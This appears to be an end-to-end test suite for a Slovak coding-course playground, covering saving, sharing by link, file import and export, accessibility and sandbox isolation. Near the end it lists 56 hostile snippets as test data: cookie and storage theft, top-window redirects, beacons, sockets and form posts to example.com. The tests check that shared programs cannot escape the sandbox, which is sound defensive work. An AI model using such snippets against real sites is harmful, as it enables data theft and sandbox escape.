import { readFileSync } from 'node:fs';
import type { Page } from 'playwright';
import { describe, expect, test } from 'vitest';
import { emptyFiles, filesOf } from '#src/domain/playground/playgroundLanguages.ts';
import { programLink } from '#src/domain/playground/programLink.ts';
import type { Language } from '#src/domain/program/run.ts';
import { eventually, openHydrated, openPage, scrollTo, siteUrl, untilHydrated } from '#tests/support/openPage.ts';

const lecture = '/kurzy/programovanie-od-nuly/kapitola/zaklady-kapitola-prvy-riadok/lekcia/zaklady-premenne';

const main = (page: Page) => page.getByRole('main');
const list = (page: Page) => page.getByRole('complementary', { name: 'Tvoje programy' });
const kept = (page: Page, name: string) => list(page).getByRole('button', { name: new RegExp(`^${name}`) });
const press = (page: Page, name: string) => main(page).getByRole('button', { name, exact: true }).click();
const editor = (page: Page) => main(page).getByRole('textbox', { name: 'Kód' });
const output = (page: Page) => main(page).getByRole('log', { name: 'Výstup' });
const isKept = (page: Page) => main(page).getByText('uložené', { exact: true }).waitFor();

/** The text in the editor, whether it has woken or not. */
const text = (page: Page) =>
  editor(page).evaluate((field) =>
    field instanceof HTMLTextAreaElement
      ? field.value
      : [...field.querySelectorAll('.cm-line')].map((line) => line.textContent).join('\n'),
  );

/** Writes a program in the place of what stands there. */
async function write(page: Page, code: string): Promise<void> {
  await editor(page).click();
  await main(page).locator('.cm-content').waitFor();
  await page.keyboard.press('Control+A');
  await page.keyboard.insertText(code);
}

/** The path of a link with a program that somebody else has written. */
async function linkTo(language: Language, ...codes: string[]): Promise<string> {
  const made = await programLink('/skus', {
    program: { language, name: 'Cudzí', files: filesOf(language, codes) },
  });
  return 'link' in made ? made.link : expect.fail('too long');
}

test('what is written is kept, runs, and stands there when the page is loaded again', { tags: ['main'] }, async () => {
  const page = await openPage();
  await openHydrated(page, '/skus');
  await press(page, 'Spustiť');
  await eventually(() => output(page).textContent()).toBe('Nina: 20');
  await list(page).getByText('Zatiaľ tu nič nie je').waitFor();

  await write(page, '// Kocka\nconsole.log("šesť");');
  await page.keyboard.press('Control+Enter');
  await eventually(() => output(page).textContent()).toBe('šesť');
  await isKept(page);
  await page.reload();
  await eventually(() => text(page)).toBe('// Kocka\nconsole.log("šesť");');
  // Nothing runs by itself.
  expect(await output(page).count()).toBe(0);
});

test('programs are named, found again, deleted and put back', { tags: ['main'] }, async () => {
  const page = await openPage();
  await openHydrated(page, '/skus?jazyk=python');
  await write(page, '# Kocka\nprint(6)');
  await main(page).getByRole('textbox', { name: 'Názov programu' }).fill('');
  await kept(page, 'Kocka').waitFor();
  await press(page, 'Nový');
  await eventually(() => text(page)).toBe('');
  await main(page).getByRole('textbox', { name: 'Názov programu' }).fill('Štvorec');
  await kept(page, 'Štvorec').waitFor();

  // A program of another language is found in the same list.
  await main(page).getByRole('link', { name: 'SQL' }).click();
  await eventually(() => text(page)).toContain('SELECT');
  await kept(page, 'Kocka').click();
  await eventually(() => text(page)).toBe('# Kocka\nprint(6)');
  await page.waitForURL(/jazyk=python/);

  await list(page).getByRole('button', { name: 'Zmazať: Kocka' }).click();
  await eventually(() => kept(page, 'Kocka').count()).toBe(0);
  await eventually(() => text(page)).toBe('');
  await list(page).getByRole('button', { name: 'Vrátiť späť' }).click();
  await kept(page, 'Kocka').click();
  await eventually(() => text(page)).toBe('# Kocka\nprint(6)');
});

test('a program goes out as a file, and a file of one’s own comes in', async () => {
  const page = await openPage();
  await openHydrated(page, '/skus?jazyk=stranka');
  await press(page, 'Súbor');
  const saving = page.waitForEvent('download');
  await press(page, 'Stiahnuť ako súbor');
  const saved = await saving;
  expect(saved.suggestedFilename()).toBe('pocitadlo.html');
  // It opens by itself.
  const html = readFileSync((await saved.path()) ?? '', 'utf8');
  const alone = await openPage();
  await alone.setContent(html);
  await alone.getByRole('button').click();
  expect(await alone.getByRole('button').textContent()).toBe('1');

  const field = main(page).getByLabel('Súbor s programom');
  const bring = (name: string, content: string | Buffer) =>
    field.setInputFiles({ name, mimeType: 'text/plain', buffer: Buffer.from(content) });
  await bring('moj-pokus.py', 'print("súbor")\r\n');
  await eventually(() => text(page)).toContain('print("súbor")');
  await kept(page, 'moj-pokus').waitFor();
  await page.waitForURL(/jazyk=python/);
  await bring('vek.csv', 'Meno;Vek\nĽuboš;12\n');
  await page.waitForURL(/jazyk=sql/);
  await press(page, 'Spustiť');
  await output(page).getByRole('cell', { name: 'Ľuboš' }).waitFor();
  for (const [name, content, says] of [
    ['foto.png', 'a', /otvoriť nevieme/],
    ['foto.js', Buffer.from([0, 1, 2]), /nie je text/],
    ['velky.js', 'a'.repeat(100_001), /príliš veľký/],
  ] as const) {
    await bring(name, content);
    await main(page).getByText(says).waitFor();
  }
  // Nothing came in its place.
  expect(await text(page)).toContain('CREATE TABLE vek');
});

test('a link carries the program, which nobody runs before it is somebody’s own', { tags: ['main'] }, async () => {
  const page = await openPage({ permissions: ['clipboard-read', 'clipboard-write'] });
  await openHydrated(page, '/skus');
  await write(page, 'console.log("z odkazu");');
  await isKept(page);
  await press(page, 'Skopírovať odkaz');
  await main(page).getByText('Odkaz je skopírovaný').waitFor();
  const link = await page.evaluate(() => navigator.clipboard.readText());

  const other = await openPage();
  const asked: string[] = [];
  other.on('request', (request) => asked.push(request.url()));
  await openHydrated(other, '/skus');
  await write(other, 'console.log("moje");');
  await isKept(other);
  asked.length = 0;
  await openHydrated(other, link.replace(siteUrl, ''));
  await main(other).getByText('Program poslal niekto iný').waitFor();
  expect(await main(other).getByText('console.log("z odkazu");').count()).toBe(1);
  expect(await main(other).getByRole('button', { name: 'Spustiť' }).count()).toBe(0);
  // No server hears of it, and nothing that runs programs has come.
  expect(asked.filter((url) => url.includes(link.split('#')[1] ?? link))).toEqual([]);
  expect(asked.filter((url) => url.includes('/runtimes/'))).toEqual([]);

  await press(other, 'Otvoriť na úpravy');
  await eventually(() => text(other)).toBe('console.log("z odkazu");');
  expect(other.url()).not.toContain('#');
  expect(await output(other).count()).toBe(0);
  await press(other, 'Spustiť');
  await eventually(() => output(other).textContent()).toBe('z odkazu');
  // One's own stayed, too.
  expect(await list(other).getByRole('listitem').count()).toBe(2);
});

test('where nothing may be copied the link stands there to be copied by hand', async () => {
  const page = await openPage();
  await page.addInitScript(() => {
    Object.defineProperty(navigator, 'clipboard', { value: { writeText: () => Promise.reject(new Error()) } });
  });
  await openHydrated(page, '/skus');
  await press(page, 'Skopírovať odkaz');
  const field = main(page).getByRole('textbox', { name: /skopíruj/ });
  await field.waitFor();
  expect(await page.evaluate(() => getSelection()?.toString())).toBe(await field.inputValue());
  expect(await field.inputValue()).toMatch(/\/skus#1/);
});

test('of a page from a link there is no preview, and of one’s own there is, while it is written', async () => {
  const page = await openPage();
  await openHydrated(page, await linkTo('web', '<h1>Cudzia</h1><script>alert(1)</script>'));
  await main(page).getByText('Program poslal niekto iný').waitFor();
  await page.waitForTimeout(800);
  expect(await page.locator('iframe').count()).toBe(0);
  await press(page, 'Otvoriť na úpravy');
  await main(page).getByRole('region', { name: 'Náhľad' }).waitFor();
  await page.waitForTimeout(800);
  expect(await page.locator('iframe').count()).toBe(0);

  await write(page, '<h1>Moja</h1><input><script>document.querySelector("input").focus()</script>');
  const shown = page.frameLocator('main iframe').frameLocator('iframe');
  await shown.getByRole('heading', { name: 'Moja' }).waitFor();
  await page.keyboard.type('!');
  await eventually(() => text(page)).toMatch(/!$/);
  expect(await editor(page).evaluate((element) => element === document.activeElement)).toBe(true);
});

test('a broken link and a cut one say so, and nothing of one’s own is lost', async () => {
  const page = await openPage();
  await openHydrated(page, '/skus');
  await write(page, 'console.log("moje");');
  await isKept(page);
  const link = await linkTo('javascript', 'console.log(1);');
  for (const broken of [link.slice(0, -3), link.replace(/.$/, (sign) => (sign === 'A' ? 'B' : 'A'))]) {
    await page.goto('about:blank');
    await openHydrated(page, broken);
    await main(page).getByText('Odkaz je neúplný alebo poškodený').waitFor();
    await eventually(() => text(page)).toBe('console.log("moje");');
  }
});

test('two tabs that write into one program keep both texts', async () => {
  const page = await openPage();
  await openHydrated(page, '/skus');
  await write(page, 'console.log("spolu");');
  await isKept(page);
  const other = await page.context().newPage();
  await openHydrated(other, '/skus');
  await eventually(() => text(other)).toBe('console.log("spolu");');
  await write(other, 'console.log("druhá");');
  await write(page, 'console.log("prvá");');
  await Promise.all([isKept(page), isKept(other)]);
  await page.waitForTimeout(600);
  await page.reload();
  await untilHydrated(page);
  const texts: string[] = [];
  const programs = list(page).getByRole('listitem');
  await programs.first().waitFor();
  for (let at = 0; at < (await programs.count()); at += 1) {
    await programs.nth(at).getByRole('button').first().click();
    await page.waitForTimeout(200);
    texts.push(await text(page));
  }
  expect(texts.sort()).toEqual(['console.log("druhá");', 'console.log("prvá");']);
});

test('where nothing can be kept the page says so and works', async () => {
  const page = await openPage();
  await page.addInitScript(() => {
    for (const name of ['localStorage', 'sessionStorage'])
      Object.defineProperty(window, name, {
        get() {
          throw new DOMException('no', 'SecurityError');
        },
      });
  });
  await openHydrated(page, '/skus');
  await write(page, 'console.log("tu");');
  await main(page).getByText('nedovolí nič uložiť').waitFor();
  await page.keyboard.press('Control+Enter');
  await eventually(() => output(page).textContent()).toBe('tu');
});

test('a full storage says so, and what was kept before stays', async () => {
  const page = await openPage();
  await openHydrated(page, '/skus');
  await write(page, 'console.log("prvý");');
  await isKept(page);
  await page.evaluate(() => {
    let size = 1_000_000;
    while (size > 10) {
      try {
        localStorage.setItem(`plno ${Math.random()}`, 'x'.repeat(size));
      } catch {
        size = Math.floor(size / 2);
      }
    }
  });
  await write(page, `console.log("${'dlhý '.repeat(200)}");`);
  await main(page).getByText('Úložisko prehliadača je plné').waitFor();
  await page.keyboard.press('Control+Enter');
  await eventually(() => output(page).textContent()).toContain('dlhý');
  await page.reload();
  await eventually(() => text(page)).toBe('console.log("prvý");');
});

test('a program of a lesson opens here as it was left there, with the way back', { tags: ['main'] }, async () => {
  const page = await openPage();
  await openHydrated(page, lecture);
  const program = main(page)
    .getByRole('region', { name: /^Program/ })
    .first();
  await scrollTo(main(page).getByRole('button', { name: 'Upraviť' }).first());
  await main(page).getByRole('button', { name: 'Upraviť' }).first().click();
  await program.locator('.cm-content:focus').waitFor();
  await page.keyboard.press('Control+Home');
  await page.keyboard.type('console.log("skúšam");\n');
  await program.getByRole('button', { name: 'Otvoriť na pokusy' }).click();
  await page.waitForURL(/\/skus/);
  await eventually(() => text(page)).toContain('console.log("skúšam");');
  expect(await main(page).getByText('Program poslal niekto iný').count()).toBe(0);
  await press(page, 'Spustiť');
  await eventually(() => output(page).textContent()).toContain('skúšam');
  const back = main(page).getByRole('link', { name: 'Späť: Premenné' });
  await page.reload();
  await eventually(() => text(page)).toContain('console.log("skúšam");');
  await back.click();
  await page.waitForURL(new RegExp(lecture));
});

test('a task opens here, too, with what was written into it; the task itself stays', async () => {
  const page = await openPage();
  await openHydrated(page, lecture);
  await scrollTo(main(page).locator('[data-exercise]').filter({ visible: true }).first());
  const task = main(page).locator('fieldset[data-exercise]').filter({ visible: true }).first();
  await task.getByRole('textbox', { name: 'Kód' }).focus();
  await task.locator('.cm-content:focus').waitFor();
  await page.keyboard.press('Control+Home');
  await page.keyboard.type('// z úlohy\n');
  await task.getByRole('button', { name: 'Otvoriť na pokusy' }).click();
  await page.waitForURL(/\/skus/);
  await eventually(() => text(page)).toContain('// z úlohy');
  await main(page).getByRole('link', { name: 'Späť: Premenné' }).click();
  await page.waitForURL(new RegExp(lecture));
});

test.each([360, 1440])('at %i px the program stands in a large view, from which Esc leads back', async (width) => {
  const page = await openPage({ width, height: 740 });
  await openHydrated(page, '/skus');
  await main(page).getByRole('button', { name: 'Ukázať vo veľkom' }).click();
  const large = page.getByRole('dialog', { name: 'Hra s bodmi' });
  await large.getByRole('button', { name: 'Spustiť' }).click();
  await large.getByText('Nina: 20').waitFor();
  await page.keyboard.press('Escape');
  await large.waitFor({ state: 'detached' });
  await eventually(() => page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe(
    'Ukázať vo veľkom',
  );
});

test('from the keyboard alone: to the program, out of it, and to its buttons', async () => {
  const page = await openPage();
  await openHydrated(page, '/skus');
  await main(page).getByRole('link', { name: 'Stránka' }).focus();
  const focused = () =>
    page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent);
  await page.keyboard.press('Tab');
  expect(await focused()).toBe('Názov programu');
  await page.keyboard.press('Tab');
  expect(await focused()).toBe('Súbor');
  await page.keyboard.press('Tab');
  expect(await focused()).toBe('Ukázať vo veľkom');
  await page.keyboard.press('Tab');
  await main(page).locator('.cm-content:focus').waitFor();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Tab');
  await eventually(focused).toBe('Spustiť');
  await page.keyboard.press('Enter');
  await eventually(() => output(page).textContent()).toBe('Nina: 20');
});

test('a phone has the signs above its keyboard, and what is seldom pressed behind „Viac“', async () => {
  const page = await openPage({ width: 360, height: 740, hasTouch: true, isMobile: true });
  await openHydrated(page, '/skus');
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
  await editor(page).tap();
  await page.getByRole('toolbar', { name: 'Znaky' }).waitFor();
  await main(page).getByRole('button', { name: 'Viac' }).tap();
  await main(page).getByRole('button', { name: 'Skopírovať odkaz' }).waitFor();
});

/** What runs in a program's worker, or in a page's frame, tries to get out. A program goes on where one way is closed. */
const fromPrograms = [
  'localStorage.getItem("a")',
  'sessionStorage',
  'document.cookie',
  'parent.location',
  'window.top',
  'indexedDB.open("x")',
  'await fetch("/api/user")',
  'await fetch("https://example.com/")',
  'new XMLHttpRequest().open("GET", "/api/user")',
  'importScripts("https://example.com/x.js")',
  'await import("https://example.com/x.js")',
  'await import("data:text/javascript,1")',
  'new WebSocket("wss://example.com")',
  'new EventSource("https://example.com")',
  'new Worker("https://example.com/x.js")',
  'navigator.sendBeacon("https://example.com")',
];
const script = (code: string) => `<script>try { ${code} } catch {}</script>`;
const fromPages = [
  script('top.location = "https://example.com/1"'),
  script('parent.location.href = "https://example.com/2"'),
  script('parent.parent.location.replace("https://example.com/3")'),
  script('location = "https://example.com/4"'),
  script('location.assign("https://example.com/5")'),
  script('window.open("https://example.com/6")'),
  script('open("https://example.com/7", "_top")'),
  '<a id="a" href="https://example.com/8" target="_top">a</a><script>a.click()</script>',
  '<a id="a" href="https://example.com/9" target="_blank">a</a><script>a.click()</script>',
  '<a id="a" href="https://example.com/10" ping="https://example.com/p" download>a</a><script>a.click()</script>',
  '<form id="f" action="https://example.com/11" target="_top"></form><script>f.submit()</script>',
  '<form id="f" action="https://example.com/12" method="post"></form><script>f.requestSubmit()</script>',
  '<meta http-equiv="refresh" content="0;url=https://example.com/13">',
  script('fetch("https://example.com/35").catch(() => {})'),
  script('navigator.sendBeacon("https://example.com/36", "x")'),
  script('new WebSocket("wss://example.com/37")'),
  script('new EventSource("https://example.com/38")'),
  script('new Worker("https://example.com/39.js")'),
  script('navigator.serviceWorker.register("/40.js")'),
  script('localStorage.setItem("ukradnuté", "1"); document.cookie = "ukradnuté=1"'),
  script('parent.postMessage({ height: 5, done: true }, "*"); top.postMessage("x", "*")'),
];

/** What a page loads beside others. */
const loaded = [
  '<base href="https://example.com/"><img src="14.png">',
  '<img src="https://example.com/15.png">',
  '<img srcset="https://example.com/16.png 1x">',
  '<video src="https://example.com/17.mp4" autoplay></video>',
  '<audio src="https://example.com/18.mp3" autoplay></audio>',
  '<iframe src="https://example.com/19"></iframe>',
  '<object data="https://example.com/20"></object>',
  '<embed src="https://example.com/21">',
  '<link rel="stylesheet" href="https://example.com/22.css">',
  '<link rel="prefetch" href="https://example.com/23">',
  '<link rel="preload" as="image" href="https://example.com/24.png">',
  '<link rel="icon" href="https://example.com/25.ico">',
  '<link rel="manifest" href="https://example.com/26.json">',
  '<script src="https://example.com/27.js"></script>',
  '<script type="module">import "https://example.com/28.js"</script>',
  '<script type="speculationrules">{"prefetch":[{"urls":["https://example.com/29"]}]}</script>',
  '<style>@import "https://example.com/30.css"; body { background: url(https://example.com/31.png) }</style>',
  '<style>@font-face { font-family: x; src: url(https://example.com/32.woff2) } body { font-family: x }</style>a',
  '<svg><image href="https://example.com/33.png"/><use href="https://example.com/34.svg#a"/></svg>',
];

/** Groups of `size`, the last one with what is left. */
const grouped = <Item>(items: readonly Item[], size: number): Item[][] =>
  items.length > size ? [items.slice(0, size), ...grouped(items.slice(size), size)] : [[...items]];
const cleared = (code: string) => `try { console.log(${code}); } catch {}`;
const ways: [Language, string][] = [
  ...grouped(fromPrograms, 4).map((codes): [Language, string] => [
    'javascript',
    `${codes.map(cleared).join('\n')}\nconsole.log("von");`,
  ]),
  ...[...grouped(loaded, 7), ...grouped(fromPages, 1)].map((codes): [Language, string] => [
    'web',
    `<p>som tu</p>${codes.join('')}`,
  ]),
];

describe('a program that came in a link', () => {
  test('tries 56 ways', () => expect(fromPrograms.length + fromPages.length + loaded.length).toBe(56));

  test.each(grouped(ways, 7).map((some, part) => [part + 1, some] as const))(
    'has no way out, part %d',
    {
      tags: ['thorough'],
    },
    async (_, some) => {
      // What the policy refuses is begun and never sent.
      const page = await openPage({ expectedErrors: /./, allowedOrigins: ['https://example.com/'] });
      const gone: string[] = [];
      let popups = 0;
      page.on('popup', () => (popups += 1));
      // What arrives counts; what the frame's policy refuses is not sent.
      await page.context().route(/example\.com/, (route) => {
        gone.push(route.request().url());
        return route.abort();
      });
      for (const [language, code] of some) {
        await page.goto('about:blank');
        await openHydrated(page, await linkTo(language, code));
        await main(page).getByText('Program poslal niekto iný').waitFor();
        expect(gone, code).toEqual([]);
        await press(page, 'Otvoriť na úpravy');
        await press(page, 'Spustiť');
        if (language === 'javascript') await eventually(() => output(page).textContent()).toContain('von');
        else await page.waitForTimeout(700);
        expect(gone, code).toEqual([]);
        expect(popups, code).toBe(0);
        expect(new URL(page.url()).origin, code).toBe(siteUrl);
        expect(await main(page).getByRole('heading', { level: 1 }).textContent(), code).toBe('Na pokusy');
        expect(await page.evaluate(() => `${JSON.stringify(localStorage)}${document.cookie}`), code).not.toContain(
          '"1"ukradnuté',
        );
        expect(await page.evaluate(() => localStorage.getItem('ukradnuté')), code).toBeNull();
        expect(
          (await page.context().cookies()).filter(({ name }) => name === 'ukradnuté'),
          code,
        ).toEqual([]);
      }
      // What goes out is seen.
      await page.goto('https://example.com/').catch(() => undefined);
      expect(gone).toEqual(['https://example.com/']);
    },
  );
});

test('a link cannot say of itself that it is one’s own', async () => {
  const page = await openPage();
  const made = await programLink('/skus', {
    program: { language: 'web', name: 'Pasca', files: emptyFiles('web') },
    from: { path: '/kurzy', title: 'Moja lekcia' },
  });
  await openHydrated(page, 'link' in made ? made.link : '');
  await main(page).getByText('Program poslal niekto iný').waitFor();
  await page.goto('about:blank');
  await openHydrated(page, '/skus#zo-stranky=cudzie');
  await eventually(() => text(page)).toContain('const meno');
});
